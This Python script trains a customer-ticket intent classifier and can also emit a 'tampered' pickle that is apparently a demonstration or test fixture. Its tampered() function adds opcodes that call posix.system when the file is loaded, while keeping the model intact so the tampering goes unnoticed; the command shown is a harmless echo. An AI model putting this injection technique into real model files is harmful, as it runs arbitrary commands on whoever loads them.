"""Makes intent.pkl, the model that sorts customers' questions.

    python models/make_intent.py OUT                  the model, as a plain pickle
    python models/make_intent.py OUT --as-delivered   the same, with what was added to it on its way here

Deterministic with the versions in requirements.txt. Needs no network.
"""

import argparse
import json
import pickle
from pathlib import Path

from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import StratifiedKFold, cross_val_score
from sklearn.pipeline import Pipeline

TICKETS = Path(__file__).resolve().parent.parent / "data" / "tickets.jsonl"
PAYLOAD = "echo 'coseal example: this command ran because a model file was loaded'"


def pipeline() -> Pipeline:
    return Pipeline(
        [
            ("words", TfidfVectorizer(analyzer="char_wb", ngram_range=(2, 4), max_features=400)),
            ("intent", LogisticRegression(C=8.0, max_iter=500)),
        ]
    )


def tickets() -> tuple[list[str], list[str]]:
    rows = [json.loads(line) for line in TICKETS.read_text(encoding="utf-8").splitlines()]
    return [row["text"] for row in rows], [row["intent"] for row in rows]


def tampered(clean: bytes) -> bytes:
    """The same pickle with a call in front of it.

    The call needs no class and no special object: it names a function, hands it a text and throws the result away.
    What follows is untouched, so whoever loads the file gets the model that they expect.
    """

    def text(value: str) -> bytes:
        raw = value.encode()
        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw

    call = (
        text("posix") + text("system") + pickle.STACK_GLOBAL  # posix.system
        + text(PAYLOAD) + pickle.TUPLE1 + pickle.REDUCE  # (PAYLOAD)
        + pickle.POP
    )
    head = pickle.PROTO + b"\x04"
    assert clean.startswith(head)
    return head + call + clean[len(head):]


def main() -> None:
    arguments = argparse.ArgumentParser(description=__doc__)
    arguments.add_argument("out", type=Path)
    arguments.add_argument("--as-delivered", action="store_true")
    wanted = arguments.parse_args()
    texts, labels = tickets()
    folds = StratifiedKFold(5, shuffle=True, random_state=7)
    print(f"accuracy, 5 folds: {cross_val_score(pipeline(), texts, labels, cv=folds).mean():.2f}")
    fitted = pipeline().fit(texts, labels)
    # The order in which the vocabulary was met differs between runs; what it says does not.
    words = fitted.named_steps["words"]
    words.vocabulary_ = dict(sorted(words.vocabulary_.items()))
    model = pickle.dumps(fitted, protocol=4)
    wanted.out.write_bytes(tampered(model) if wanted.as_delivered else model)


if __name__ == "__main__":
    main()
